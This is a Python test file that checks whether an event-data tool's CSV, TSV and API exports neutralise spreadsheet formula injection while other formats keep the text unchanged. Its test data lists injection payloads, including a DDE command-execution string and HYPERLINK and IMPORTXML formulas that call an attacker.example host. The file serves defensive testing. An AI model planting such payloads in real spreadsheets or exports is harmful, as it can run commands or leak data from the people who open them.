"""No cell of any table is a formula to a spreadsheet, whatever strangers wrote; elsewhere their words stay as they are."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import openpyxl
import polars
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from dragoman.nouns.ledger import Event, Evidence, Field, FieldValue, Ledger, Party, Quotation, Source, StatusStep, Story, Telling, When
from dragoman.nouns.text import Document, Span
from dragoman.publish.exports import TEXT_FORMATS
from dragoman.publish.exports.csv import table_to_csv
from dragoman.publish.tables import TABLES
from dragoman.publish.tables.frames import write_parquet
from dragoman.publish.tables.told import Told
from dragoman.relate import calendar, register
from tests.publish.rest.conftest import client
from tests.store.by_hand import keep

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "  ", "\u00a0", "\u3000", "\t", "\n", "\v", "\u2003", "\ufeff")
FORMULAS = tuple(f"{before}{sign}SUM(1+{n})" for n, (before, sign) in enumerate((b, s) for b in BEFORE for s in BEGINNINGS))
ATTEMPTS = (
    *FORMULAS, "=cmd|' /C calc'!A0", "=HYPERLINK(\"//attacker.example\",\"x\")", "=IMPORTXML(\"//attacker.example\",\"//a\")",
    "\"=1+1", "'=1+1", "=1+1\";=2+2", "x,=1+1", "x\r\n=1+1", "x\t=1+1", "x;=1+1", "-1", "+1", "1e5", "=1\x00",
)  # fmt: skip
# What a spreadsheet may take for a formula: one of the signs, after whatever it may pass over; a plain number is none.
RUNS = re.compile(r"[\s\ufeff\x00]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
DAY = "2031-03-04"


def hostile() -> Ledger:
    sources, events, quotes = [], [], []
    for n, attempt in enumerate(ATTEMPTS):
        text = f"{attempt} met."
        document = Document(f"d{n:03d}", attempt, text, attempt, date(2031, 3, 4), attempt, attempt, attempt[:8])
        head = Span(0, len(attempt))
        here = (Evidence(document.id, head),)
        party = Party(attempt, f"person:{attempt}", "FRA")
        fields = tuple(Field(name, (FieldValue(attempt, (document.id,), here),)) for name in ("actor", "object", "topic", "money", attempt))
        events.append(
            Event(
                f"e{n:016x}",
                ("CONSULT", "AGREE", "SANCTION")[n % 3],
                (),
                ("occurred", "scheduled")[n % 2],
                attempt,
                (party,),
                (Party(attempt, "state:ITA", "ITA"),),
                (Party(attempt),),
                (party,),
                When(DAY, DAY, DAY),
                (Telling(document.id, head, Span(0, len(text)), "occurred", 0.9, f"e{n:016x}"),),
                1,
                fields,
                (StatusStep(DAY, "occurred", (document.id,)),),
                (),
            )
        )
        sources.append(Source(document, attempt))
        quotes.append(Quotation(attempt, party, Party(attempt), here))
    story = Story("s1", ATTEMPTS[0], tuple(s.document.id for s in sources), tuple(e.id for e in events))
    return Ledger(tuple(sources), (story,), tuple(events), tuple(quotes))


LEDGER = hostile()
TOLD = Told(LEDGER, register(LEDGER.events), calendar(LEDGER.events, None, settled=True), {})


def formulas(rows):
    """Return the cells that a spreadsheet would run: by what openpyxl takes them for, and by how they begin."""
    sheet = openpyxl.Workbook().active
    rows = list(rows)
    for row in rows:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row])
    book = io.BytesIO()
    sheet.parent.save(book)
    again = openpyxl.load_workbook(io.BytesIO(book.getvalue())).active
    by_type = [cell.value for row in again.iter_rows() for cell in row if cell.data_type == "f"]
    return by_type + [cell for row in rows for cell in row if RUNS.match(cell) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("name", list(TABLES))
def test_no_cell_of_a_table_is_a_formula(name):
    rows = list(csv.reader(io.StringIO(table_to_csv(TABLES[name], TOLD), newline="")))
    assert len(rows) > 1
    assert not formulas(rows)


@pytest.mark.parametrize("name", ["polecat", "icews"])
def test_no_cell_of_coded_events_is_a_formula(name):
    lines = "".join(TEXT_FORMATS[name].written(TOLD)).split("\n")
    rows = [line.split("\t") for line in lines if line]
    assert len(rows) > len(ATTEMPTS) / 4
    assert {len(row) for row in rows} == {len(rows[0])}
    assert not formulas(rows)


@pytest.fixture(scope="module")
def ask(tmp_path_factory):
    path = tmp_path_factory.mktemp("formulas") / "x.db"
    keep(path, LEDGER, at_last=True)
    with client(path) as made:
        yield made


def test_no_cell_of_a_csv_that_the_server_answers_is_a_formula(ask):
    """The addresses that answer with a table are found by what they say of themselves, so that a new one is tried too."""
    needed = {"/api/v1/relations": {"a": "FRA", "b": "ITA"}}
    tried = 0
    for path, methods in ask.get("/api/v1/openapi.json").json()["paths"].items():
        described = {p["name"]: p for p in methods.get("get", {}).get("parameters", [])}
        if "csv" not in described.get("format", {}).get("schema", {}).get("enum", ()):
            continue
        answer = ask.get(path, params={"format": "csv", **needed.get(path, {})})
        assert answer.status_code == 200, (path, answer.text)
        rows = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
        assert len(rows) > 1, path
        assert not formulas(rows), path
        tried += 1
    assert tried >= 4


def test_elsewhere_the_words_are_as_they_were_written(ask, tmp_path):
    found = {e["summary"] for e in ask.get("/api/v1/events?limit=500").json()["events"]}
    assert found == set(ATTEMPTS)
    write_parquet(TABLES["events"], TOLD, tmp_path / "events.parquet")
    assert set(polars.read_parquet(tmp_path / "events.parquet")["summary"]) == set(ATTEMPTS)
